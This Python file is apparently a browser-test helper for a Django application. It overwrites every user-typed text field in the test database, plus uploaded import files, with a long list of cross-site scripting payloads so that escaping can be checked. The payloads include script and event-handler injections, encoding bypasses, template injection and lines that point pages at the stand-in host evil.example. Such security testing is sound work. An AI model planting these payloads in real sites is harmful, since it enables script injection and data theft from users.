"""Puts markup in every text that people type, wherever it is stored (S12).

`python -m tests.browser.poison`, on the database that `tests.browser.ground` filled.
Straight into the rows: what a form refuses today may have come in by another door.
"""

import json
import os
from collections.abc import Iterator
from itertools import count, cycle
from typing import Any

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
django.setup()

from django.apps import apps  # noqa: E402
from django.db import models  # noqa: E402

from intake.models import ImportDecision, ImportFile  # noqa: E402

# Each brings an element that can be found, or tries to run something, or both.
MARK = "data-injected"
PAYLOADS = (
    "<xss>x",
    "\"'><xss>",
    f"<b {MARK}>x",
    f"<script {MARK}>alert(1)</script>",
    f'"><b {MARK}>x',
    f"'><b {MARK}>x",
    f'"><img {MARK} src=x onerror=alert(1)>',
    f"'><svg {MARK} onload=alert(1)>",
    f"</script><script {MARK}>alert(1)</script>",
    f"</textarea><script {MARK}>alert(1)</script>",
    f"</title><svg/{MARK}/onload=alert(1)>",
    f"</option></select><img {MARK} src=x onerror=alert(1)>",
    f"--><script {MARK}>alert(1)</script>",
    f"]]><script {MARK}>alert(1)</script>",
    f'" autofocus onfocus=alert(1) {MARK} x="',
    f"' onmouseover=alert(1) {MARK} x='",
    f"` onload=alert(1) {MARK} x=`",
    "javascript:alert(1)",
    " jAvAsCrIpT:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    f'<a {MARK} href="javascript:alert(1)">x</a>',
    f"<iframe {MARK} srcdoc='<script>alert(1)</script>'>",
    f"<iframe {MARK} src=javascript:alert(1)>",
    f"<object {MARK} data=data:text/html,x>",
    f"<base {MARK} href=//evil.example/>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//evil.example/'>",
    f"<link {MARK} rel=stylesheet href=//evil.example/x.css>",
    f"<style {MARK}>@import '//evil.example/x.css';</style>",
    f"<img {MARK} src=//evil.example/x.png>",
    f"<form {MARK} action=//evil.example/><button autofocus>x",
    f"<b {MARK} style=background:url(//evil.example/x)>x",
    f"<b {MARK} hx-get=/ hx-trigger=load>x",
    f"<b {MARK} hx-on:htmx:load=alert(1) hx-get=/ hx-trigger=load>x",
    f"<b {MARK} hx-get=/ hx-trigger=load hx-vals='js:{{a:alert(1)}}'>x",
    f"<details {MARK} open ontoggle=alert(1)>x",
    f"<video {MARK}><source onerror=alert(1)></video>",
    f"<math {MARK}><mi xlink:href=javascript:alert(1)>x</mi></math>",
    f"<svg {MARK}><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<noscript><p title='</noscript><img {MARK} src=x onerror=alert(1)>'>",
    f"<scr<script>ipt {MARK}>alert(1)</scr</script>ipt>",
    f"&lt;script {MARK}&gt;alert(1)&lt;/script&gt;",
    f"&#60;img {MARK} src=x onerror=alert(1)&#62;",
    f"%3Cscript {MARK}%3Ealert(1)%3C/script%3E",
    f"\\u003cscript {MARK}\\u003ealert(1)\\u003c/script\\u003e",
    f"\uff1cscript {MARK}\uff1ealert(1)\uff1c/script\uff1e",
    "{{ 7|add:7 }}{% debug %}{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)}`;alert(1);//",
    "';alert(1);//\\';alert(1);//\";alert(1);//",
    f"\u202e<b {MARK}>x",
    f"A\n<img {MARK} src=x onerror=alert(1)>\nB",
    f"https://x.example/<img {MARK} src=x onerror=alert(1)>",
    f"=HYPERLINK(<b {MARK}>x)",
)
ROOMS = ("organizing", "ladder", "conversations", "overview", "intake")
# Written by Trede itself and read as a code, a key or a fingerprint.
OURS = {
    "AuditEntry",
    "AuditSeal",
    "Suppression",
    "TeamFigures",
    "DailyCount",
    "Consent.wording",
    "ImportDecision.fingerprint",
    "ImportDecision.reason",
    "ImportDecision.row",
    "ImportFile.content",
    "LibraryEntry.code",
    "LibraryEntry.place",
    "Note.field",
    "RolePlay.card",
    "RolePlay.code",
    "SavedFilter.query",
    "Suggestion.rule",
    "User.email",
    "User.password",
    "Person.phone_hash",
}
OUR_NAMES = {"time_zone", "language"}
ADDRESS = f'"<b/{MARK}>"@example.org'


def typed_fields(model: type[models.Model]) -> list[Any]:
    """Its columns that hold what somebody typed."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name not in OUR_NAMES
        and not {model.__name__, f"{model.__name__}.{field.name}"} & OURS
    ]


def that_fit(limit: int | None) -> Iterator[str]:
    """These in turn, each time with a number behind it, for names that are unique."""
    fitting = [one for one in PAYLOADS if len(one) + 3 <= (limit or 2000)]
    numbers = count(1)
    for payload in cycle(fitting):
        yield f"{payload}{next(numbers)}"


def poison() -> set[str]:
    """Every row of every room; tells which columns got something."""
    poisoned = set()
    for room in ROOMS:
        for model in apps.get_app_config(room).get_models():
            fields = typed_fields(model)
            values = {field.name: that_fit(field.max_length) for field in fields}
            for row in model._default_manager.all() if fields else ():
                for field in fields:
                    is_address = isinstance(field, models.EmailField)
                    value = ADDRESS if is_address else next(values[field.name])
                    setattr(row, field.name, value)
                    poisoned.add(f"{model.__name__}.{field.name}")
                models.Model.save(row, update_fields=[field.name for field in fields])
    poison_imports()
    return poisoned


def poison_imports() -> None:
    """A file as somebody may upload it, and a row that waits for a decision."""
    names = that_fit(60)
    rows = [
        f'"{cell.replace(chr(34), chr(34) * 2)}";x@example.org;x'
        for cell in (next(names) for _ in PAYLOADS)
    ]
    head = f"Naam;E-mail;<b {MARK}>Geloof"
    for file in ImportFile.objects.all():
        file.content = "\n".join([head, *rows, ""])
        file.save(update_fields=["content"])
    for decision in ImportDecision.objects.all():
        row = json.loads(decision.row)
        row |= {name: next(names) for name in ("first_name", "last_name")}
        decision.row = json.dumps(row)
        decision.save(update_fields=["row"])


if __name__ == "__main__":
    poison()
